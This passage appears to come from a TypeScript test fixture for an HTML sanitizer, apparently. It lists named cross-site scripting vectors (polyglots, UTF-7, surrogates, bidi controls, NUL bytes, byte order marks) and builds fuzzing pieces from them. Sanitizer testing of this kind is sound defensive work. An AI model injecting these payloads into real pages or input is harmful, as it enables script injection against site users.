    html: `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e`,
  },
  {
    name: 'polyglot of quotes',
    html: `'">><marquee><img src=x onerror=alert(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=alert(1)><script>alert(1)</script>@gmail.com<isindex formaction=javascript:alert(1) type=submit>'-->"></script>`,
  },
  { name: 'polyglot of comments', html: `"'--></style></script><svg onload=alert(1)>//` },
  {
    name: 'polyglot of a closing script',
    html: `</script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  },
  { name: 'wide angles', html: '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e<b onclick=alert(1)>x</b>' },
  { name: 'seven bits', html: '+ADw-script+AD4-alert(1)+ADw-/script+AD4-<b onclick=alert(1)>x</b>' },
  {
    name: 'overlong bytes and lone surrogates',
    html: '\ud800<img src=x onerror=alert(1)>\udfff\u00c0\u00bcscript\u00c0\u00be',
  },
  {
    name: 'text that runs backwards',
    html: '<a href="javascript:alert(1)">\u202etxet\u202c</a><\u200bscript>alert(1)</script><b onclick=alert(1)>\u2066x\u2069</b>',
  },
  {
    name: 'line separators',
    html: '<img\u2028src=x onerror=alert(1)><img src=x\u2029onerror=alert(1)><img src=x\u000bonerror=alert(1)><img src=x\u00a0 onerror=alert(1)>',
  },
  {
    name: 'dotless letters',
    html: '<\u017fcript>alert(1)</\u017fcript><\u0131mg src=x onerror=alert(1)><\u212aBD onclick=alert(1)>x',
  },
  {
    name: 'NUL in names',
    html: '<scr\0ipt>alert(1)</scr\0ipt><\0script>alert(1)</script><img src=x on\0error=alert(1)><b onclick=alert(1)>x</b>',
  },
  {
    name: 'byte order marks',
    html: '\ufeff<\ufeffscript>alert(1)</script><script\ufeff>alert(1)</script><img src=x onerror=\ufeffalert(1)>',
  },
];

/** Known HTML attacks, as they may come from an editor's field or a compromised account. */
export const vectors: readonly HostileVector[] = [
  ...scripts,
  ...handlers,
  ...everyHandler,
  ...addresses,
  ...frames,
  ...forms,
  ...foreign,
  ...mutations,
  ...styles,
  ...clobbering,
  ...polyglots,
];

/** Parts for random HTML: the vectors split at `<`, and tags with special nesting rules. */
export const pieces: readonly string[] = [
  ...new Set(vectors.filter(({ html }) => html.length < 400).flatMap(({ html }) => html.split(/(?=<)/))),
  ...'a b p h2 h3 ul li dl dt dd table caption colgroup tbody tr td th ruby rt details summary figure div span section pre'
    .split(' ')
    .flatMap(tag => [`<${tag}>`, `<${tag} id="x">`, `</${tag}>`]),
  ...[
    '<col>',
    '<br>',
    '<hr>',
    '<img src="/a.jpg" alt="">',
    '<a href="#x">',
    'text',
    ' ',
    '&amp;',
    '&lt;b&gt;',
    '&#0;',
    '&#13;',
  ],
];
